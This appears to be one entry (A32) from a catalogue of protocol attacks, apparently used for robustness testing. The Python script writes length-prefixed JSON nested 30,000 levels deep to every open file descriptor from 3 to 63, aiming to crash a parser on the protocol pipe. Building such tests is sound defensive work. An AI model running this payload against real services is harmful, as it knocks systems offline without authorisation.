# attack: sends deeply nested JSON on the pipe of the protocol
# catalogue: A32
# %%
import os
import struct

body = b'{"kind": "cell", "fields": {"a": ' + b"[" * 30_000 + b"]" * 30_000 + b'}, "arrays": []}'
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("<I", len(body)) + body)
    except OSError:
        pass
